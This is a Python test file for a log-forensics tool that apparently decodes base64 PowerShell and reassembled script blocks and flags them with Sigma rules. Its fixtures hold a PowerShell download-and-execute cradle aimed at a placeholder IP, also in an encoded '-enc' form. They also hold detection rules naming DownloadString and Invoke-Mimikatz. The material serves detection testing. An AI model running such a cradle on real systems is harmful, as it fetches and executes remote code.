"""Decoded commands through a whole run: findings, the table of texts, growth, rerun and both engines."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from whole_run import assert_sound, command, row_hashes, rows_of

from casemate.engine.protocol import Engine

if TYPE_CHECKING:
    from conftest import Investigator  # there are several files of this name; pytest finds the fixture by its own

DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
RULES = {
    "process.yml": """
title: Download
id: 5a3c9a37-4b37-4a3b-8c53-6e1a0e1f0b01
logsource: {category: process_creation, product: windows}
detection: {selection: {CommandLine|contains: DownloadString}, condition: selection}
level: high
""",
    "script.yml": """
title: Mimikatz
id: 5a3c9a37-4b37-4a3b-8c53-6e1a0e1f0b02
logsource: {category: ps_script, product: windows}
detection: {selection: {ScriptBlockText|contains: Invoke-Mimikatz}, condition: selection}
level: high
""",
}
ENCODED = f"powershell.exe -enc {base64.b64encode(DOWNLOAD.encode('utf-16-le')).decode()}"


def event(number: int, minute: int, **fields: Any) -> str:
    channel = "Microsoft-Windows-Sysmon/Operational" if number == 1 else "Microsoft-Windows-PowerShell/Operational"
    base = {
        "@timestamp": f"2026-05-04T10:{minute:02d}:00.000Z",
        "EventTime": f"2026-05-04 10:{minute:02d}:00",
        "Channel": channel,
        "EventID": number,
        "Hostname": "ws1",
        "SourceName": channel.partition("/")[0],
        "EventRecordID": minute,
    }
    return json.dumps({**base, **fields}) + "\n"


LINES = [
    event(1, 1, Image="C:\\a.exe", CommandLine="a.exe"),
    event(1, 2, Image="C:\\powershell.exe", CommandLine=ENCODED),
    event(1, 3, Image="C:\\powershell.exe", CommandLine=f"powershell -c {DOWNLOAD}"),
    event(4104, 4, ScriptBlockId="b1", MessageNumber=1, MessageTotal=2, ScriptBlockText="x; Invoke-Mimi"),
    event(4104, 5, ScriptBlockId="b1", MessageNumber=2, MessageTotal=2, ScriptBlockText="katz; y"),
    event(1, 6, Image="C:\\powershell.exe", CommandLine=ENCODED, ProcessId=7),
]


@pytest.fixture
def rules(tmp_path: Path) -> Path:
    folder = tmp_path / "rules"
    folder.mkdir()
    for name, text in RULES.items():
        (folder / name).write_text(text)
    return folder


def found(path: Path) -> list[tuple[str, str, int]]:
    counts: dict[str, int] = {}
    for row in rows_of(path, "finding_records"):
        counts[row["finding"]] = counts.get(row["finding"], 0) + 1
    rows = rows_of(path, "findings", "id", "detector", "title")
    return sorted((row["detector"], row["title"], counts[row["id"]]) for row in rows)


EXPECTED = [
    ("sigma", "Download", 1),
    ("sigma_decoded", "Download", 1),
    ("sigma_decoded", "Download", 1),
    ("sigma_decoded", "Mimikatz", 2),
]


def test_decoded_findings_and_texts_of_a_run(investigator: Investigator, rules: Path, tmp_path: Path) -> None:
    log = tmp_path / "events.json"
    log.write_text("".join(LINES))
    case, report = investigator(log, rules=(rules,))
    assert found(case) == EXPECTED
    assert report.rules.findings == 4
    assert_sound(case)
    said = command(
        "query", "select record, field, depth, steps, text from decoded_text order by 1", "--case", case, "--json"
    )
    assert [json.loads(line) for line in said.out.splitlines()] == [
        {"record": 2, "field": "CommandLine", "depth": 1, "steps": ["base64", "utf-16le"], "text": DOWNLOAD},
        {
            "record": 4,
            "field": "ScriptBlockText",
            "depth": 1,
            "steps": ["script-block"],
            "text": "x; Invoke-Mimikatz; y",
        },
        {"record": 6, "field": "CommandLine", "depth": 1, "steps": ["base64", "utf-16le"], "text": DOWNLOAD},
    ]
    again = row_hashes(case)
    investigator(log, rules=(rules,))
    assert row_hashes(case) == again


def test_a_log_that_grows_gives_the_findings_of_one_run(
    investigator: Investigator, rules: Path, tmp_path: Path
) -> None:
    log = tmp_path / "events.json"
    for lines in (2, 4, 6):
        log.write_text("".join(LINES[:lines]))
        case, _ = investigator(log, rules=(rules,), name="grown")
    assert found(case) == EXPECTED
    assert [row["text"] for row in rows_of(case, "decoded_text")].count(DOWNLOAD) == 2
    assert_sound(case)


def test_a_rerun_gives_the_same_decoded_texts(investigator: Investigator, rules: Path, tmp_path: Path) -> None:
    log = tmp_path / "events.json"
    log.write_text("".join(LINES))
    case, _ = investigator(log, rules=(rules,))
    said = command("rerun", "--diff", "--case", case, "--rules", rules, "--json")
    assert said.code == 0, said.err


@pytest.mark.spark
def test_both_engines_decode_the_same(investigator: Investigator, rules: Path, tmp_path: Path, spark: Engine) -> None:
    log = tmp_path / "events.json"
    log.write_text("".join(LINES))
    here, _ = investigator(log, rules=(rules,), name="here")
    there, _ = investigator(log, rules=(rules,), name="there", engine=spark)
    assert found(there) == EXPECTED
    assert row_hashes(here) == row_hashes(there)
